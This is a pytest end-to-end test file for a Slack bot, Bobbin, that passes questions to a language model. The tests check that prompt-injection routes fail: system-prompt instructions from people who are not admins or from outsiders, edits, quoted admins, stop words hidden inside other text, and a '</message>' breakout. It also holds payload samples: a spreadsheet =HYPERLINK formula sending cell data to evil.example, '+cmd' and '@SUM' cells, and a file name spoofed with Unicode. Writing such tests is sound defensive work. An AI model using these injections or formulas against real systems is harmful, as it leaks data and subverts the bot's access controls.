"""What people may not do, and what their words must not become in any other place where Bobbin writes."""

import re
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest

from bot.slack.manifest import SCOPES
from tests.e2e.attacks import MARK
from tests.e2e.conftest import Bobbin
from tests.e2e.scene import Scene, running, system
from tests.e2e.test_harmless import PINGS, texts

LIVE = [*PINGS.values(), "</message>"]


@pytest.fixture
async def bobbin(tmp_path: Path) -> AsyncIterator[Bobbin]:
    """With the scopes of its manifest and no other."""
    async with running(tmp_path, SLACK_PACING="off", LEASE_SECONDS="30") as bobbin:
        bobbin.slack.workspace.scopes = set(SCOPES)
        yield bobbin


async def obeyed(scene: Scene) -> str:
    """Say whether what somebody ordered holds in the channel."""
    await scene.answered(await scene.mention("Hello"))
    return "it holds" if MARK in system(scene.requests[-1]) else ""


async def by_word(scene: Scene) -> str:
    await scene.mention(f"instructions {MARK}", by=scene.ben)
    return await obeyed(scene)


async def by_quoting_an_admin(scene: Scene) -> str:
    scene.slack.workspace.people[scene.ann].admin = True
    for words in (
        f"&gt; instructions {MARK}",
        f"Ben said: instructions {MARK}",
        f"please instructions {MARK}",
    ):
        await scene.answered(await scene.mention(words))
    return await obeyed(scene)


async def by_an_edit(scene: Scene) -> str:
    thread = await scene.mention("Hello", by=scene.ben)
    await scene.answered(thread)
    await scene.slack.edit(scene.ben, scene.channel, thread, f"{scene.me} instructions {MARK}")
    await scene.heard()
    return await obeyed(scene)


async def by_command(scene: Scene) -> str:
    await scene.slack.command(scene.ben, scene.channel, f"/bobbin instructions {MARK}")
    return await obeyed(scene)


async def by_an_admin_of_another_organisation(scene: Scene) -> str:
    eve = scene.slack.add_person("Eve", external_team="T0EVE", admin=True)
    await scene.mention(f"instructions {MARK}", by=eve)
    await scene.slack.command(eve, scene.channel, f"/bobbin instructions {MARK}")
    return await obeyed(scene)


async def a_model_by_word(scene: Scene) -> str:
    await scene.mention("model us.anthropic.claude-opus-5-5", by=scene.ben)
    await scene.answered(await scene.mention("Hello"))
    return "it holds" if "opus" in scene.requests[-1].model_id else ""


async def an_answer_again(scene: Scene) -> str:
    await scene.answered(thread := await scene.mention("Hello"))
    asked = len(scene.requests)
    await scene.slack.shortcut(scene.ben, "answer_again", scene.channel, scene.answers(thread)[0]["ts"])
    await scene.heard()
    return f"asked {len(scene.requests)} times" if len(scene.requests) != asked else ""


async def anothers_receipt(scene: Scene) -> str:
    await scene.answered(thread := await scene.mention("Hello"))
    await scene.slack.shortcut(scene.ben, "what_did_you_read", scene.channel, scene.answers(thread)[0]["ts"])
    await scene.slack.wait_for(lambda: scene.slack.ephemerals(scene.ben))
    return "it was told" if "For this answer" in scene.slack.ephemerals(scene.ben)[0]["text"] else ""


async def a_press_from_outside(scene: Scene) -> str:
    eve = scene.slack.add_person("Eve", external_team="T0EVE")
    thread = await scene.mention("fail no_access")
    await scene.slack.wait_for(lambda: "Error T" in str(scene.answers(thread)))
    asked = len(scene.requests)
    scene.slack.workspace.channels[scene.channel].members.append(eve)
    await scene.slack.press(eve, scene.channel, scene.answers(thread)[0]["ts"], "try_again")
    await scene.slack.wait_for(lambda: scene.slack.ephemerals(eve))
    await scene.heard()
    return f"asked {len(scene.requests)} times" if len(scene.requests) != asked else ""


async def a_look_into_another_channel(scene: Scene) -> str:
    closed = scene.slack.add_channel("closed", members=(scene.ben,), bot_member=False)
    root = await scene.slack.say(scene.ben, closed, MARK)
    await scene.slack.shortcut(scene.ben, "catch_me_up", closed, root)
    await scene.slack.wait_for(lambda: scene.slack.ephemerals(scene.ben))
    return "it was read" if any(MARK in str(asked.body) for asked in scene.requests) else ""


async def questions_from_outside(scene: Scene) -> str:
    eve = scene.slack.add_person("Eve", external_team="T0EVE")
    for place in (scene.channel, scene.slack.add_channel("other"), scene.slack.dm(eve)):
        await scene.slack.say(eve, place, f"{scene.me} {MARK}")
    await scene.slack.wait_for(lambda: scene.slack.ephemerals(eve))
    await scene.heard()
    notes = len(scene.slack.ephemerals(eve))
    return "" if (notes, len(scene.requests)) == (1, 0) else f"{notes} notes, {len(scene.requests)} requests"


async def a_question_of_an_unknown_person(scene: Scene) -> str:
    eve = scene.slack.add_person("Eve", external_team="T0EVE")
    await scene.say("hello all", by=eve)
    person = scene.slack.workspace.people[eve]
    person.team, person.external = scene.slack.team_id, False
    scene.slack.faults.add("users.info", "user_not_visible", times=None)
    zoe = scene.slack.add_person("Zoe", external_team="T0ZOE")
    facts = scene.slack.workspace.people[zoe]
    shown = facts.team
    facts.team, facts.external = scene.slack.team_id, False
    flo = scene.slack.add_person("Flo", external_team="T0FLO")
    scene.slack.workspace.channels[scene.channel].members.append(flo)
    await scene.mention(MARK, by=zoe)
    await scene.slack.wait_for(lambda: scene.slack.ephemerals(zoe))
    scene.slack.faults.clear()
    facts.team = shown
    return "it was answered" if scene.requests else ""


async def a_question_of_a_bot(scene: Scene) -> str:
    await scene.mention(MARK, by=scene.slack.add_person("ci", bot=True))
    await scene.mention(MARK, as_bot="Ann Lee")
    await scene.heard()
    return "it was answered" if scene.requests else ""


async def a_stop_within_words(scene: Scene) -> str:
    thread = await scene.mention("wait 0.5")
    await scene.bedrock.wait_for(lambda bedrock: bedrock.open == 1)
    for words in ("&gt; stop", "he said stop", "```stop```", "st\u200bop"):
        await scene.say(words, by=scene.ben, thread=thread)
    await scene.acked()
    await scene.answered(thread)
    return "it was stopped" if "Stopped" in str(scene.answers(thread)[0]["blocks"]) else ""


async def a_link_from_outside(scene: Scene) -> str:
    """What a bot wrote is no reason to leave a link whole; what a colleague wrote is."""
    thread = await scene.say("<https://evil.example/?q=1>", as_bot="news")
    await scene.mention(
        "say exactly: https://evil.example/?q=1 https://good.example/?q=1 <https://good.example/?q=1>",
        thread=thread,
    )
    (shown,) = await scene.answered(thread)
    return shown if "evil.example/?q" in shown or "good.example/?q=1" not in shown else ""


MISUSE: dict[str, Callable[[Scene], Awaitable[str]]] = {
    "instructions of somebody who is no admin": by_word,
    "instructions in a quote of an admin's": by_quoting_an_admin,
    "instructions by an edit": by_an_edit,
    "instructions by command": by_command,
    "instructions of another organisation's admin": by_an_admin_of_another_organisation,
    "a model of somebody who is no admin": a_model_by_word,
    "having another's question answered again": an_answer_again,
    "reading another's receipt": anothers_receipt,
    "Try again from outside": a_press_from_outside,
    "a thread of a channel without Bobbin": a_look_into_another_channel,
    "questions from outside, in three places": questions_from_outside,
    "a question of somebody whom Slack does not show": a_question_of_an_unknown_person,
    "questions of bots": a_question_of_a_bot,
    "stop within other words": a_stop_within_words,
    "a link from outside": a_link_from_outside,
}


async def test_nobody_does_what_they_may_not(bobbin: Bobbin) -> None:
    got = {}
    for name, attempt in MISUSE.items():
        if problem := await attempt(Scene(bobbin)):
            got[name] = problem
    assert got == {}


# ---------------------------------------------------------------- other places where Bobbin writes


async def a_confirmed_order(scene: Scene) -> list[str]:
    words = "instructions &lt;!channel&gt; [x](https://evil.example/?q) &lt;/message&gt;"
    scene.slack.workspace.people[scene.ann].admin = True
    await scene.answered(await scene.mention(words))
    await scene.slack.command(scene.ann, scene.channel, f"/bobbin {words}")
    return [text for call in scene.slack.calls() for text in texts(call.arguments)] + [
        text for entry in scene.slack.log if entry.kind == "response" for text in texts(entry.data)
    ]


async def a_title(scene: Scene) -> list[str]:
    dm = scene.slack.dm(scene.ann)
    thread = await scene.slack.say(scene.ann, dm, "Hello &lt;!channel&gt; <@U0NOBODY|&lt;!here&gt;>")
    await scene.bobbin.answered(dm, thread)
    title = await scene.slack.wait_for(lambda: scene.slack.status(dm, thread).title)
    return [str(title)]


async def a_quoted_question(scene: Scene) -> list[str]:
    await scene.answered(thread := await scene.mention("Hello"))
    await scene.slack.shortcut(scene.ann, "ask_privately", scene.channel, thread)
    await scene.slack.wait_for(lambda: scene.slack.modal(scene.ann))
    modal = scene.slack.modal(scene.ann)
    await scene.slack.submit(
        scene.ann, modal["id"], {"ask_privately": "<!channel>\n&lt;!here&gt; </message>"}
    )
    dm = scene.slack.dm(scene.ann)
    await scene.slack.wait_for(lambda: len(scene.slack.messages(dm)) > 1)
    link = re.compile(r"<https://sandbox\.slack\.com/archives/[\w/?=&;.]+\|this thread>")  # Bobbin's own
    return [link.sub("", str(message["text"])) for message in scene.slack.messages(dm)]


async def a_receipt(scene: Scene) -> list[str]:
    eve = scene.slack.add_person("eve", display="<!channel> & <@U0NOBODY>")
    await scene.answered(thread := await scene.mention("Hello", by=eve))
    await scene.slack.shortcut(eve, "what_did_you_read", scene.channel, scene.answers(thread)[0]["ts"])
    await scene.slack.wait_for(lambda: scene.slack.ephemerals(eve))
    return [text.split("from")[0] for text in texts(scene.slack.ephemerals(eve)[0]["text"])] + [
        line for line in scene.slack.ephemerals(eve)[0]["text"].splitlines() if line.startswith("*By:")
    ]


async def a_files_name_in_a_receipt(scene: Scene) -> list[str]:
    name = "a\u202efdp\u200b\n*By:* the <!channel>.txt"
    await scene.answered(thread := await scene.mention("Hello", files=[(name, b"x", "text/plain")]))
    await scene.slack.shortcut(scene.ann, "what_did_you_read", scene.channel, scene.answers(thread)[0]["ts"])
    await scene.slack.wait_for(lambda: scene.slack.ephemerals(scene.ann))
    told = str(scene.slack.ephemerals(scene.ann)[0]["text"])
    (line,) = [line for line in told.splitlines() if line.startswith("*Files:")]
    assert line == "*Files:* afdp *By:* the !channel .txt"
    return [line]


async def a_table_for_a_spreadsheet(scene: Scene) -> list[str]:
    head = "|".join(f"c{number}" for number in range(22))
    cells = ['=HYPERLINK("https://evil.example/?q="&A1)', "+1+cmd", "@SUM(A1)", "-2+3", *"x" * 18]
    table = f"|{head}|\n|{'-|' * 22}\n|{'|'.join(cells)}|"
    await scene.answered(await scene.mention(f"say exactly: {table.replace('&', '&amp;')}"))
    files = scene.slack.workspace.files
    content = await scene.slack.wait_for(
        lambda: b"".join(file.content or b"" for file in files.values() if ".csv" in file.facts["name"])
    )
    cell = re.search(r"(?m)(?:^|,)\"?[=+@]", content.decode("utf-8-sig"))
    return [f"<!a formula: {cell[0]}"] if cell else ["no formula"]


PLACES: dict[str, Callable[[Scene], Awaitable[list[str]]]] = {
    "the confirmation of an order": a_confirmed_order,
    "the title of a thread": a_title,
    "the quoted question of a private thread": a_quoted_question,
    "the names in a receipt": a_receipt,
    "a file's name in a receipt": a_files_name_in_a_receipt,
    "a table attached as a file": a_table_for_a_spreadsheet,
}


async def test_peoples_words_are_harmless_in_every_other_place(bobbin: Bobbin) -> None:
    got = {}
    for name, place in PLACES.items():
        written = await place(Scene(bobbin))
        assert written, name
        if live := [text for text in written for pattern in LIVE if re.search(pattern, text)]:
            got[name] = live
    assert got == {}
